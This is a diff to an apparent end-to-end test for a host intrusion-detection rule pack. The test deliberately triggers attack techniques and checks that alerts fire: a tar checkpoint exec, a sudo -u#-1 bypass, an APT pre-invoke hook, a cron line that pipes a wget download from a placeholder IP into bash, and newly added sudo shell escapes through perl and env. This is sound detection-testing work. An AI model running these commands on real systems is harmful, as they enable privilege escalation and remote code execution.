@@ -300,7 +300,7 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
     }
   });
 
-  it('a tar checkpoint shell, sudo -u#-1, an APT hook on the command line, a user namespace by nobody and a cron line that downloads each raise their alert', async () => {
+  it('a tar checkpoint shell, sudo -u#-1, an APT hook on the command line, a user namespace by nobody, a cron line that downloads and programs run with sudo that become a shell each raise their alert', async () => {
     const since = new Date().toISOString();
     const tolerant = (file: string, args: string[]) => run(file, args, { timeout: 10_000 }).catch(() => undefined);
     await tolerant('/usr/bin/tar', ['-cf', '/dev/null', '--checkpoint=1', '--checkpoint-action=exec=/bin/true', '/dev/null']);
@@ -309,6 +309,9 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
     await tolerant('/usr/bin/apt-get', ['-o', 'APT::Update::Pre-Invoke::=/bin/true', '--version']);
     // Whether or not this kernel lets an unprivileged user make a user namespace.
     await tolerant('/usr/bin/setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', '/usr/bin/unshare', '-Ur', '/bin/true']);
+    // GTFOBins' sudo entries for perl and env: the program sudo ran executes the shell in its place.
+    await tolerant('/usr/bin/sudo', ['-n', '/usr/bin/perl', '-e', `exec "/bin/sh", "-s", "perl-${process.pid}"`]);
+    await tolerant('/usr/bin/sudo', ['-n', '/usr/bin/env', '/bin/sh', '-s', `env-${process.pid}`]);
     const line = `*/5 * * * * root wget -q -O- http://203.0.113.9/s-${process.pid} | bash`;
     try {
       await run('/bin/sh', ['-c', `echo '${line}' > ${cronFile}`], { timeout: 10_000 });
@@ -318,6 +321,8 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
         ['package_manager_hook_on_command_line', 'high', 'APT::Update::Pre-Invoke::=/bin/true'],
         ['user_namespace_root_by_unprivileged_user', 'medium', 'unshare -Ur'],
         ['cron_job_runs_download_or_shell', 'high', `s-${process.pid}`],
+        ['shell_escaped_from_program_under_sudo', 'high', `perl-${process.pid}`],
+        ['shell_escaped_from_program_under_sudo', 'high', `env-${process.pid}`],
       ];
       for (const [rule, severity, text] of expected) {
         const alert = await waitForAlert(rule, since, (a) => a.rule.id === rule && mentions(a, text));
